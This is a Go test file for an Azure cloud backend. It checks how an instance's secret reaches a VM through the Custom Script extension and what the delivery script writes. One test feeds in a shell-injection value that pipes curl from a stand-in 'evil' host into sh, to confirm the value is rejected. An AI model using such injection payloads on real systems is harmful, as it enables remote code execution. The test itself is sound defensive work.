package azure_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/instancehub/instancehub"
	"github.com/instancehub/instancehub/azure"
	"github.com/instancehub/instancehub/azure/emulator"
)

// TestSecretDelivered: the instance's secret reaches the VM in the Custom
// Script extension's protected settings, after the VM is made and again,
// a new one, at Start; the VM's own PUT never carries it.
func TestSecretDelivered(t *testing.T) {
	c, emu := newCloud(t, emulator.Options{})
	inst := instance("secret-box", "Standard_DS1_v2", false)
	if err := run(t, c, instancehub.OpCreate, inst); err != nil {
		t.Fatal(err)
	}
	first, _ := azure.SecretScript(inst.AppSecret)
	if got := emu.CustomScript("secret-box"); got != first {
		t.Fatalf("the VM ran %q, want the script that writes the instance's secret", got)
	}
	if body, _ := emu.RequestBody("virtualMachines", "secret-box"); strings.Contains(string(body), inst.AppSecret) {
		t.Error("the VM's PUT carries the secret")
	}
	if steps := c.Steps(instancehub.OpStart, inst); strings.Join(steps, ",") != "virtual machine,application secret" {
		t.Errorf("start steps = %v", steps)
	}
	if err := run(t, c, instancehub.OpStop, inst); err != nil {
		t.Fatal(err)
	}
	inst.AppSecret = "the-next-secret_0123456789abcdefghijklmnopqrst"
	if err := run(t, c, instancehub.OpStart, inst); err != nil {
		t.Fatal(err)
	}
	if got := emu.CustomScript("secret-box"); !strings.Contains(got, "\n"+inst.AppSecret+"\n") {
		t.Errorf("after Start the VM holds %q, want the new secret", got)
	}
}

// TestSecretStepBody: the extension's PUT is the Custom Script extension
// with the secret in its protected settings only, and a timestamp in its
// public ones, so that every delivery runs again.
func TestSecretStepBody(t *testing.T) {
	clock := newTestClock()
	g := newGroup(t, clock)
	c, inst := groupCloud(t, g, clock), busyBox()
	if _, err := c.BeginStep(context.Background(), instancehub.OpStart, azure.StepAppSecret, inst); err != nil {
		t.Fatal(err)
	}
	g.mu.Lock()
	raw := g.resources["/subscriptions/sub-1/resourcegroups/rg-1/providers/microsoft.compute/virtualmachines/busy-box/extensions/instancehub-secret"]
	g.mu.Unlock()
	var ext struct {
		Properties struct {
			Publisher, Type, TypeHandlerVersion string
			Settings                            map[string]any
			ProtectedSettings                   map[string]string
		}
	}
	if err := json.Unmarshal(raw, &ext); err != nil {
		t.Fatalf("%v: %s", err, raw)
	}
	p := ext.Properties
	if p.Publisher != "Microsoft.Azure.Extensions" || p.Type != "CustomScript" || p.TypeHandlerVersion != "2.1" {
		t.Errorf("extension %s/%s %s, want Microsoft.Azure.Extensions/CustomScript 2.1", p.Publisher, p.Type, p.TypeHandlerVersion)
	}
	if p.Settings["timestamp"] != float64(clock.Now().Unix()) || len(p.Settings) != 1 {
		t.Errorf("public settings %v, want the time alone", p.Settings)
	}
	script, _ := base64.StdEncoding.DecodeString(p.ProtectedSettings["script"])
	if want, _ := azure.SecretScript(inst.AppSecret); string(script) != want {
		t.Errorf("protected script %q", script)
	}
	if _, err := azure.SecretScript(`x'; curl evil | sh; '` + strings.Repeat("x", 40)); err == nil {
		t.Error("a secret that could end its quotes was accepted")
	}
}

// TestSecretScript runs the script as the VM would (sh, as root), in a
// folder standing for /, with chown and systemctl recorded: it writes
// Jupyter's configuration, the proxy's secret and the secret, each whole,
// and reloads the proxy; Jupyter restarts only when its configuration
// changed (a VM made when the configuration held the secret), not at each
// new secret, which it reads as it changes.
func TestSecretScript(t *testing.T) {
	root, bin := t.TempDir(), t.TempDir()
	calls := filepath.Join(t.TempDir(), "calls")
	for _, tool := range []string{"chown", "systemctl"} {
		write(t, filepath.Join(bin, tool), "#!/bin/sh\necho "+tool+" \"$@\" >>"+calls+"\n")
		if err := os.Chmod(filepath.Join(bin, tool), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	runScript := func(secret string) string {
		t.Helper()
		script, err := azure.SecretScript(secret)
		if err != nil {
			t.Fatal(err)
		}
		os.Remove(calls)
		cmd := exec.Command("sh", "-c", script)
		cmd.Env = append(os.Environ(), "INSTANCEHUB_ROOT="+root, "PATH="+bin+":"+os.Getenv("PATH"))
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		got, _ := os.ReadFile(calls)
		return string(got)
	}
	file := func(path, mode string) string {
		t.Helper()
		info, err := os.Stat(filepath.Join(root, path))
		if err != nil {
			t.Fatal(err)
		}
		if got := info.Mode().Perm().String(); got != mode {
			t.Errorf("%s: mode %s, want %s", path, got, mode)
		}
		b, _ := os.ReadFile(filepath.Join(root, path))
		return string(b)
	}

	const one, two = "first-secret_0123456789abcdefghijklmnopqrstuv", "second-secret_0123456789abcdefghijklmnopqrstu"
	calls1 := runScript(one)
	if got := file(azure.SecretFile, "-rw-r-----"); got != one+"\n" {
		t.Errorf("secret file %q", got)
	}
	if got := file("/etc/instancehub/proxy-secret.conf", "-rw-------"); got != azure.ProxySecret(one)+"\n" {
		t.Errorf("proxy's secret %q", got)
	}
	if got := file("/etc/instancehub/jupyter_server_config.py", "-rw-r--r--"); got != azure.JupyterConfig(azure.SecretFile)+"\n" {
		t.Errorf("Jupyter's configuration %q", got)
	}
	want := "systemctl try-restart instancehub-jupyter.service\n"
	if !strings.Contains(calls1, "chown root:azureuser") || !strings.Contains(calls1, want) ||
		!strings.HasSuffix(calls1, "systemctl try-reload-or-restart nginx.service\n") {
		t.Errorf("first delivery ran:\n%s", calls1)
	}
	calls2 := runScript(two)
	if got := file(azure.SecretFile, "-rw-r-----"); got != two+"\n" {
		t.Errorf("secret file after a new one %q", got)
	}
	if strings.Contains(calls2, want) || !strings.HasSuffix(calls2, "systemctl try-reload-or-restart nginx.service\n") {
		t.Errorf("a new secret ran:\n%s\nwant the proxy reloaded and Jupyter left running", calls2)
	}
	left, _ := filepath.Glob(filepath.Join(root, "etc/instancehub/.new.*"))
	if len(left) > 0 {
		t.Errorf("left behind %v", left)
	}
}
